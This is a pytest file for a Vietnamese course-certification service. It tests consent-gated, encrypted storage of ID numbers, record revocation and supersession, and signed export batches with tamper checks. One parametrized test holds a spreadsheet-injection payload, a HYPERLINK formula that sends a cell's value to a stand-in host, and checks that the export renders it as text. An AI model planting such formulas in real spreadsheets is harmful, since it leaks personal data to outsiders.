"""Certification data: ID numbers under consent and encryption, record status changes, the city batch."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from openpyxl import load_workbook
from sqlalchemy import func, select

from mooc.exports.bundle import verify_bundle
from mooc.models import AuditEvent, CompletionRecord, Consent, PersonIdentity, RecordEvent, User
from mooc.services import export_batches, identity, record_status
from mooc.services.export_batches import BatchRequest
from mooc.services.identity import IdentityError
from mooc.services.record_status import Correction, RecordStatusError
from tests.integration.helpers import take

KEY = b"k" * 32
NUMBER = "001099012345"


@pytest.fixture
def signing_key():
    return Ed25519PrivateKey.generate()


def learner_with_record(session, make_user, name="Nguyễn Văn Chứng", born=1999):
    from datetime import date

    user = make_user(name=name)
    user.date_of_birth = date(born, 3, 4)
    session.commit()
    take(session, user, "kiem-tra-alpha")
    _, record = take(session, user, "kiem-tra-beta")
    return user, record


def test_the_number_needs_consent_two_matching_entries_and_a_sound_number(session, make_user):
    user, _ = learner_with_record(session, make_user)
    with pytest.raises(IdentityError) as no_consent:
        identity.give_number(session, user, KEY, NUMBER, NUMBER, agreed=False)
    assert no_consent.value.field == "agree"
    with pytest.raises(IdentityError) as mismatch:
        identity.give_number(session, user, KEY, NUMBER, "001099012346", agreed=True)
    assert mismatch.value.field == "number_again"
    with pytest.raises(IdentityError) as wrong_year:
        identity.give_number(session, user, KEY, "001088012345", "001088012345", agreed=True)
    assert wrong_year.value.field == "number"


def test_the_number_is_stored_encrypted_with_a_keyed_hash_and_the_consent_version(session, make_user):
    user, _ = learner_with_record(session, make_user)
    stored = identity.give_number(session, user, KEY, "001 099 012 345", NUMBER, agreed=True)
    assert NUMBER.encode() not in stored.number_encrypted and stored.last4 == "2345"
    assert identity.decrypt(KEY, stored.number_encrypted) == NUMBER
    assert stored.number_hmac == identity.keyed_hash(KEY, NUMBER) != identity.keyed_hash(b"x" * 32, NUMBER)
    consent = session.scalar(select(Consent).where(Consent.user_id == user.id))
    assert (consent.text_version, consent.text_sha256) == ("v2", identity.consent_text().sha256)
    assert consent.guardian_name is None  # an adult consents alone
    assert session.scalar(select(AuditEvent.action).where(AuditEvent.actor_id == user.id)) == "identity.give"


def test_one_number_belongs_to_one_account(session, make_user):
    first, _ = learner_with_record(session, make_user, name="Người Một")
    second, _ = learner_with_record(session, make_user, name="Người Hai")
    identity.give_number(session, first, KEY, NUMBER, NUMBER, agreed=True)
    with pytest.raises(IdentityError, match="đã được dùng"):
        identity.give_number(session, second, KEY, NUMBER, NUMBER, agreed=True)


def test_withdrawing_consent_deletes_the_number(session, make_user):
    user, _ = learner_with_record(session, make_user)
    identity.give_number(session, user, KEY, NUMBER, NUMBER, agreed=True)
    identity.withdraw(session, user)
    assert session.get(PersonIdentity, user.id) is None
    assert identity.active_consent(session, user.id) is None


def test_an_official_marks_the_number_checked_against_the_card(session, make_user):
    user, _ = learner_with_record(session, make_user)
    official = make_user(role="official", login="canbo@example.test")
    identity.give_number(session, user, KEY, NUMBER, NUMBER, agreed=True)
    assert identity.check_against_card(session, KEY, user.id, official, "001099012346") is False
    assert session.get(PersonIdentity, user.id).assurance == "self_declared"
    with pytest.raises(IdentityError):
        identity.check_against_card(session, KEY, user.id, official, "2345")
    assert identity.check_against_card(session, KEY, user.id, official, "001 099 012 345") is True
    checked = session.get(PersonIdentity, user.id)
    assert (checked.assurance, checked.checked_by) == ("officer_checked", official.id)


def test_a_revoked_record_keeps_its_history_and_cannot_be_changed_again(session, make_user):
    _, record = learner_with_record(session, make_user)
    official = make_user(role="official", login="canbo@example.test")
    with pytest.raises(RecordStatusError):
        record_status.revoke(session, record, "no-such-reason", official)
    record_status.revoke(session, record, "data_error", official, "cấp nhầm")
    assert (record.status, record.status_reason) == ("revoked", "data_error")
    assert [(e.action, e.reason) for e in record_status.history(session, record.id)] == [
        ("issued", None),
        ("revoked", "data_error"),
    ]
    with pytest.raises(RecordStatusError):
        record_status.revoke(session, record, "fraud", official)


def test_a_name_correction_supersedes_the_record_with_a_new_code(session, make_user):
    user, record = learner_with_record(session, make_user, name="Nguyen Van Sai")
    official = make_user(role="official", login="canbo@example.test")
    fresh = record_status.supersede(
        session, record, Correction("Nguyễn Văn Sài", record.date_of_birth), "name_correction", official
    )
    session.commit()
    assert (record.status, fresh.status, fresh.supersedes_id) == ("superseded", "issued", record.id)
    assert (
        fresh.code != record.code and fresh.full_name == "Nguyễn Văn Sài" and fresh.modules == record.modules
    )
    issued = session.scalars(
        select(CompletionRecord).where(
            CompletionRecord.user_id == user.id, CompletionRecord.status == "issued"
        )
    ).all()
    assert [r.id for r in issued] == [fresh.id]
    assert session.scalar(select(func.count()).select_from(RecordEvent)) == 3  # issued, superseded, issued


def batch(session, signing_key, mode="full", actor=None):
    return export_batches.build_batch(
        session,
        BatchRequest(mode, actor_id=actor),
        id_key=KEY,
        signing_key=signing_key,
        kid="test-key",
        base_url="https://mooc.test",
    )


def test_the_city_batch_holds_csv_jsonl_xlsx_and_a_signed_manifest(session, make_user, signing_key):
    user, record = learner_with_record(session, make_user)
    identity.give_number(session, user, KEY, NUMBER, NUMBER, agreed=True)
    data, export = batch(session, signing_key)
    archive = zipfile.ZipFile(io.BytesIO(data))
    assert sorted(archive.namelist()) == sorted(
        ["records.csv", "records.jsonl", "records.xlsx", "manifest.json", "manifest.jws"]
    )
    assert verify_bundle(data, signing_key.public_key()) == []
    csv_bytes = archive.read("records.csv")
    assert csv_bytes.startswith(b"\xef\xbb\xbf") and b"\r\n" in csv_bytes
    (row,) = csv.DictReader(io.StringIO(csv_bytes.decode("utf-8-sig")))
    assert (row["so_dinh_danh"], row["ma_xac_minh"], row["trang_thai"]) == (NUMBER, record.code, "issued")
    (line,) = [json.loads(x) for x in archive.read("records.jsonl").decode().splitlines()]
    assert line["so_dinh_danh"] == NUMBER and line["schema"] == "bdhvs-export/1"
    sheet = load_workbook(io.BytesIO(archive.read("records.xlsx"))).active
    assert sheet["D2"].value == NUMBER and sheet["D2"].data_type == "s" and sheet["A2"].value == 1
    assert export.record_count == 1
    event = session.scalar(select(AuditEvent).where(AuditEvent.action == "export.bundle"))
    assert event.details["records"] == 1 and NUMBER not in json.dumps(event.details)


def test_the_same_export_twice_gives_the_same_rows(session, make_user, signing_key):
    learner_with_record(session, make_user)
    first, _ = batch(session, signing_key)
    second, _ = batch(session, signing_key)
    read = lambda data: zipfile.ZipFile(io.BytesIO(data)).read("records.csv")  # noqa: E731
    assert read(first) == read(second)


def test_a_single_changed_byte_is_caught_by_the_receiving_check(session, make_user, signing_key):
    learner_with_record(session, make_user)
    data, _ = batch(session, signing_key)
    archive = zipfile.ZipFile(io.BytesIO(data))
    files = {n: archive.read(n) for n in archive.namelist()}
    files["records.csv"] = files["records.csv"].replace(b"issued", b"issuef", 1)
    tampered = io.BytesIO()
    with zipfile.ZipFile(tampered, "w") as out:
        for name, body in files.items():
            out.writestr(name, body)
    assert verify_bundle(tampered.getvalue(), signing_key.public_key()) == [
        "records.csv does not match its SHA-256 in the manifest"
    ]
    assert verify_bundle(data, Ed25519PrivateKey.generate().public_key())[0].startswith(
        "the manifest signature does not verify"
    )
    flipped = bytearray(data)
    flipped[len(flipped) // 2] ^= 1
    assert verify_bundle(bytes(flipped), signing_key.public_key()) != []


def test_a_delta_batch_carries_changes_since_the_last_delivered_one_revocations_included(
    session, make_user, signing_key
):
    _, first_record = learner_with_record(session, make_user, name="Người Đầu")
    official = make_user(role="official", login="canbo@example.test")
    _, delivered = batch(session, signing_key)
    export_batches.mark_delivered(session, delivered, official.id)
    learner_with_record(session, make_user, name="Người Sau")
    record_status.revoke(session, first_record, "fraud", official)
    data, export = batch(session, signing_key, mode="delta")
    rows = [
        json.loads(x) for x in zipfile.ZipFile(io.BytesIO(data)).read("records.jsonl").decode().splitlines()
    ]
    assert sorted((r["ho_ten"], r["trang_thai"]) for r in rows) == [
        ("Người Sau", "issued"),
        ("Người Đầu", "revoked"),
    ]
    assert export.since == delivered.created_at


@pytest.mark.parametrize(
    "name", ['=HYPERLINK("http://x.example/?d="&C2,"Bấm")', "@SUM(A1:A9)", "+84 912 345 678", "-Lê Văn Tám"]
)
def test_formula_like_names_open_as_text_in_every_spreadsheet_file(session, make_user, signing_key, name):
    learner_with_record(session, make_user, name=name)
    data, _ = batch(session, signing_key)
    archive = zipfile.ZipFile(io.BytesIO(data))
    (row,) = csv.DictReader(io.StringIO(archive.read("records.csv").decode("utf-8-sig")))
    assert row["ho_ten"] == "'" + name and row["stt"] == "1"
    sheet = load_workbook(io.BytesIO(archive.read("records.xlsx"))).active
    assert sheet["E2"].data_type == "s" and sheet["E2"].value in (name, "'" + name)
    assert isinstance(sheet["K2"].value, int)  # a number the program writes stays a number


def test_without_consent_the_batch_carries_no_number(session, make_user, signing_key):
    user, _ = learner_with_record(session, make_user)
    identity.give_number(session, user, KEY, NUMBER, NUMBER, agreed=True)
    identity.withdraw(session, user)
    data, _ = batch(session, signing_key)
    (row,) = csv.DictReader(
        io.StringIO(zipfile.ZipFile(io.BytesIO(data)).read("records.csv").decode("utf-8-sig"))
    )
    assert row["so_dinh_danh"] == "" and row["muc_xac_thuc"] == ""


def test_deleting_an_account_erases_the_person_and_keeps_the_records(session, make_user):
    from mooc.services import privacy

    user, record = learner_with_record(session, make_user)
    admin = make_user(role="admin", login="admin@example.test")
    identity.give_number(session, user, KEY, NUMBER, NUMBER, agreed=True)
    privacy.delete_account(session, user, admin)
    session.commit()
    stored = session.get(User, user.id)
    assert (stored.full_name, stored.phone, stored.is_active_account) == ("(đã xóa)", None, False)
    assert session.get(PersonIdentity, user.id) is None
    assert session.get(CompletionRecord, record.id).full_name == "Nguyễn Văn Chứng"


def test_a_child_or_pupil_needs_a_guardian_who_consents_too(session, make_user):
    from datetime import date

    from mooc.services.identity import Guardian

    user, _ = learner_with_record(session, make_user, born=2012)
    child_number = "001212012345"  # born 2012: century digit 2
    with pytest.raises(IdentityError) as no_name:
        identity.give_number(session, user, KEY, child_number, child_number, agreed=True)
    assert no_name.value.field == "guardian_name"
    with pytest.raises(IdentityError) as not_agreed:
        identity.give_number(
            session, user, KEY, child_number, child_number, True, Guardian("Lê Thị Mẹ", agreed=False)
        )
    assert not_agreed.value.field == "guardian_agree"
    identity.give_number(
        session,
        user,
        KEY,
        child_number,
        child_number,
        True,
        Guardian(" Lê  Thị Mẹ ", agreed=True),
        today=date(2026, 12, 3),
    )
    consent = session.scalar(select(Consent).where(Consent.user_id == user.id))
    assert consent.guardian_name == "Lê Thị Mẹ"


def test_the_first_consent_text_stays_readable_for_those_who_accepted_it():
    first, current = identity.consent_text("v1"), identity.consent_text()
    assert current.version == "v2" and "người giám hộ" in current.markdown
    assert "người giám hộ" not in first.markdown and first.sha256 != current.sha256
